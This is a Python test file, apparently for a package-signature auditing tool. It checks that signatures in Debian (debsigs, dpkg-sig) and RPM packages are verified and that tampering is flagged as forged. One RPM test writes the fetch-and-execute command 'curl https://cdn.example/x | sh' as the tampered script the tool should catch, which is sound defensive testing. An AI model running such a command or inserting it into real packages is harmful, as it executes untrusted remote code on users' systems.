"""Signatures inside packages: Debian's by debsigs and dpkg-sig, RPM's over their headers."""

from __future__ import annotations

import shutil
import struct
import subprocess
from base64 import b64encode
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from dten_audit.auditing import examine
from dten_audit.examples.archives import tar_package
from dten_audit.links.package import Package
from dten_audit.model.facts.key_signatures import KeySignatureCheck
from dten_audit.model.facts.signatures import SignatureCoverage
from dten_audit.model.facts.signing import UncheckedSignature
from dten_audit.options import Options
from tests.derive.signing.test_key_signatures import only

pysequoia = pytest.importorskip("pysequoia")


@pytest.fixture(scope="module")
def own() -> Any:
    return pysequoia.Tsk.generate("Acme Release <release@acme.example>")


def signed(own: Any, content: bytes, mode: str = "DETACHED") -> bytes:
    how = getattr(pysequoia.SignatureMode, mode)
    made = pysequoia.sign(own.signer(), content, mode=how, armor=mode != "DETACHED")
    assert isinstance(made, bytes)
    return made


def audited(tmp_path: Path, own: Any, name: str, data: bytes) -> Package:
    folder, store = tmp_path / "package", tmp_path / "trust"
    for made in (folder, store):
        made.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)
    (store / "acme.gpg").write_bytes(bytes(own.extract_certificate()))
    return examine(folder, Options(trust=store))


def tar(path: str, text: str) -> bytes:
    (made,) = tar_package({"members": [{"path": path, "text": text}]}).values()
    return made


PARTS = (
    ("debian-binary", b"2.0\n"),
    ("control.tar", tar("./control", "Package: dten\n")),
    ("data.tar", tar("./opt/dten/bin/sync", "#!/bin/sh\nexec sync\n")),
)


def deb(*more: tuple[str, bytes], parts: tuple[tuple[str, bytes], ...] = PARTS) -> bytes:
    out = b"!<arch>\n"
    for name, data in (*parts, *more):
        out += f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(data):<10}`\n".encode()
        out += data + b"\n" * (len(data) & 1)
    return out


def test_debsigs_vouch_for_all_parts(tmp_path: Path, own: Any) -> None:
    signature = signed(own, b"".join(data for _, data in PARTS))
    found = audited(tmp_path, own, "dten.deb", deb(("_gpgorigin", signature)))
    check = only(found)
    assert (check.verdict, check.trust, check.target) == ("genuine", "trusted", "dten.deb!/@signed")
    (reach,) = found.of(SignatureCoverage)
    assert (reach.trusted, reach.covered) == (1, reach.members)
    evil = (*PARTS[:2], ("data.tar", tar("./opt/dten/bin/sync", "#!/bin/sh\nexec evil\n")))
    changed = deb(("_gpgorigin", signature), parts=evil)
    assert only(audited(tmp_path, own, "dten.deb", changed)).verdict == "forged"


def test_dpkg_sig_is_said(tmp_path: Path, own: Any) -> None:
    text = signed(own, b"Version: 4\nSigner: Acme\nFiles:\n", "CLEAR")
    found = audited(tmp_path, own, "dten.deb", deb(("_gpgbuilder", text)))
    (fact,) = found.of(UncheckedSignature)
    assert fact.format == "dpkg-sig signature"
    assert "over the package's parts" in fact.unread


def header(tags: dict[int, tuple[int, bytes]]) -> bytes:
    index, store = b"", b""
    for tag, (kind, value) in tags.items():
        index += struct.pack(">LLLL", tag, kind, len(store), len(value) if kind == 7 else 1)
        store += value if kind == 7 else value + b"\0"
    return b"\x8e\xad\xe8\1" + bytes(4) + struct.pack(">LL", len(tags), len(store)) + index + store


def rpm(own: Any, tag: int, script: bytes, signed_script: bytes | None = None) -> bytes:
    payload = b"070701" + b"0" * 88 + b"0000000b" + b"0" * 8 + b"TRAILER!!!\0" + bytes(3)
    digest = sha256(payload).hexdigest().encode()

    def main(text: bytes) -> bytes:
        return header({1000: (6, b"dten"), 1024: (6, text), 5092: (8, digest)})

    over = main(script if signed_script is None else signed_script)
    signature = signed(own, over if tag < 1000 else over + payload)
    value = (6, b64encode(signature)) if tag == 278 else (7, signature)
    out = b"\xed\xab\xee\xdb\3\0" + bytes(90) + header({tag: value})
    return out + bytes(-len(out) % 8) + main(script) + payload


@pytest.mark.parametrize("tag", [267, 268, 278, 1002, 1005])
def test_rpm_headers_are_verified(tmp_path: Path, own: Any, tag: int) -> None:
    check = only(audited(tmp_path, own, "dten.rpm", rpm(own, tag, b"systemctl restart dten")))
    assert (check.verdict, check.trust) == ("genuine", "trusted")
    changed = rpm(own, tag, b"curl https://cdn.example/x | sh", b"systemctl restart dten")
    assert only(audited(tmp_path, own, "dten.rpm", changed)).verdict == "forged"


@pytest.mark.skipif(
    not all(shutil.which(tool) for tool in ("gpg", "dpkg-deb", "ar")), reason="no Debian tools"
)
def test_a_package_of_dpkg_deb_signed_by_gpg(tmp_path: Path) -> None:
    home, tree = tmp_path / "home", tmp_path / "tree"
    home.mkdir(mode=0o700)
    (tree / "DEBIAN").mkdir(parents=True)
    control = "Package: dten\nVersion: 9.4\nArchitecture: all\nMaintainer: a <a@b.c>\n"
    (tree / "DEBIAN/control").write_text(control + "Description: x\n")
    (tree / "opt").mkdir()
    (tree / "opt/a").write_text("hi\n")
    gpg = ["gpg", "--homedir", str(home), "--batch", "--passphrase", "", "-q"]

    def run(*words: str, given: bytes = b"") -> bytes:
        done = subprocess.run(words, check=True, capture_output=True, input=given, cwd=tmp_path)
        return done.stdout

    run("dpkg-deb", "--root-owner-group", "-b", str(tree), "dten.deb")
    names = run("ar", "t", "dten.deb").decode().split()
    content = b"".join(run("ar", "p", "dten.deb", name) for name in names)
    run(*gpg, "--quick-gen-key", "Acme <r@acme.example>", "ed25519", "sign", "1y")
    (tmp_path / "_gpgorigin").write_bytes(run(*gpg, "--detach-sign", given=content))
    run("ar", "q", "dten.deb", "_gpgorigin")
    (tmp_path / "trust").mkdir()
    (tmp_path / "trust/acme.gpg").write_bytes(run(*gpg, "--export"))
    run("gpgconf", "--homedir", str(home), "--kill", "all")
    found = examine(tmp_path / "dten.deb", Options(trust=tmp_path / "trust"))
    assert (only(found).verdict, only(found).trust) == ("genuine", "trusted")


def test_unsigned_packages_have_no_signed_parts(tmp_path: Path, own: Any) -> None:
    found = audited(tmp_path, own, "dten.deb", deb())
    assert not found.of(KeySignatureCheck)
    assert not any("@signed" in address for address in found.documents)
